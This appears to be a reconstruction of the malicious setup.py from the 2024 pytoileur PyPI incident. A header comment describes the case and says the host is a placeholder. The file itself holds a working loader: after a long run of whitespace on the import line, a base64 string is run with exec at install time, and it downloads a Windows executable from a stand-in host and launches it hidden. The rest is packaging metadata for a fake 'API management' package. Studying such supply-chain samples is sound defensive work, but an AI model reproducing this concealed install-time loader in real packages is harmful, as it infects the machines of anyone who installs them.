# Incident: pytoileur 1.0.2 (PyPI), May 2024, reported by Sonatype. A fake "API management"
# package whose setup.py hid, after a long run of spaces off the right edge of the screen,
# a base64 string decoded and executed at install; it downloaded a Windows executable
# (an info-stealer) and ran it hidden.
# Reference: https://www.sonatype.com/blog/pypi-package-pytoileur-harbors-windows-infostealer-amid-coding-stack-exchange-campaign
# Reproduction (own code, placeholder host).
from setuptools import find_packages, setup                                                                                                                                                                                                                            ;import base64; exec(base64.b64decode('aW1wb3J0IG9zLCBzdWJwcm9jZXNzLCB0ZW1wZmlsZSwgdXJsbGliLnJlcXVlc3QKaWYgb3MubmFtZSA9PSAibnQiOgogICAgcCA9IG9zLnBhdGguam9pbih0ZW1wZmlsZS5nZXR0ZW1wZGlyKCksICJSdW50aW1lLmV4ZSIpCiAgICB1cmxsaWIucmVxdWVzdC51cmxyZXRyaWV2ZSgiaHR0cHM6Ly9maWxlcy5jZG4tbWlycm9yLmV4YW1wbGUvUnVudGltZS5leGUiLCBwKQogICAgc3VicHJvY2Vzcy5Qb3BlbihbcF0sIGNyZWF0aW9uZmxhZ3M9MHgwODAwMDAwMCwgY2xvc2VfZmRzPVRydWUpCg=='))

with open("README.md", encoding="utf-8") as fh:
    long_description = fh.read()

setup(
    name="pytoileur",
    version="1.0.2",
    author="pytoileur",
    description="Cool package for API management",
    long_description=long_description,
    long_description_content_type="text/markdown",
    packages=find_packages(),
    install_requires=["requests"],
    classifiers=["Programming Language :: Python :: 3", "Operating System :: OS Independent"],
    python_requires=">=3.6",
)
